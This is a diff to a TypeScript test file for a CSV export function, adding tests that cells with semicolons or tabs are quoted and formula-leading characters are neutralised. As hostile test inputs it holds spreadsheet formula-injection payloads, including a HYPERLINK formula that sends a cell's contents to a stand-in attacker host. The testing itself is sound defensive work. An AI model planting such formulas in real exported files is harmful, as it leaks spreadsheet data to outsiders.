@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { csvCell, toCsv } from "./export-csv";
@@ -57,6 +58,41 @@ describe("CSV writer", () => {
     expect(csvCell(42)).toBe("42");
   });
 
+  it("quotes a field with a semicolon or a tab, so a semicolon-locale spreadsheet cannot split out a formula", () => {
+    expect(csvCell("Acme;Widgets")).toBe('"Acme;Widgets"');
+    expect(csvCell("a\tb")).toBe('"a\tb"');
+    const hostile = [
+      'Acme;=HYPERLINK("https://evil.example/?"&A1;"Invoice")',
+      "Dana;+1+1",
+      "x; -2+3;@SUM(1)",
+      "=1;=2",
+      "tab\t=cmd",
+    ];
+    const csv = toCsv(
+      ["company", "notes"],
+      [
+        [hostile[0], hostile[1]],
+        [hostile[2], hostile[3]],
+        [hostile[4], 7],
+      ],
+    );
+    // Read as a spreadsheet in a semicolon locale reads it, and as one in a tab-separated import: no
+    // cell starts a formula.
+    for (const delimiter of [";", "\t", ","]) {
+      const cells = parse(csv, { delimiter, relax_column_count: true, relax_quotes: true }) as string[][];
+      for (const cell of cells.flat())
+        expect(/^[=+\-@]/.test(cell), `${JSON.stringify(cell)} split at ${JSON.stringify(delimiter)}`).toBe(
+          false,
+        );
+    }
+    // Read with commas, as written, every value comes back whole but for the guard's apostrophes.
+    expect(parseCsv(csv).slice(1)).toEqual([
+      ['Acme;\'=HYPERLINK("https://evil.example/?"&A1;"Invoice")', "Dana;'+1+1"],
+      ["x; '-2+3;'@SUM(1)", "'=1;'=2"],
+      ["tab\t'=cmd", "7"],
+    ]);
+  });
+
   it("ends every record, the last included, with CRLF", () => {
     expect(toCsv(["a", "b"], [["1", null]])).toBe("a,b\r\n1,\r\n");
   });
@@ -74,7 +110,9 @@ describe("CSV writer", () => {
   });
 
   it("reads back exactly what was written (any text that does not look like a formula)", () => {
-    const text = fc.string({ unit: "binary" }).filter((value) => !/^[=+\-@\t\r]/.test(value));
+    const text = fc
+      .string({ unit: "binary" })
+      .filter((value) => !/^[=+\-@\t\r]|[;\t][ "]*[=+\-@]/.test(value));
     fc.assert(
       fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
         const header = ["h1", "h2", "h3", "h4", "h5"];
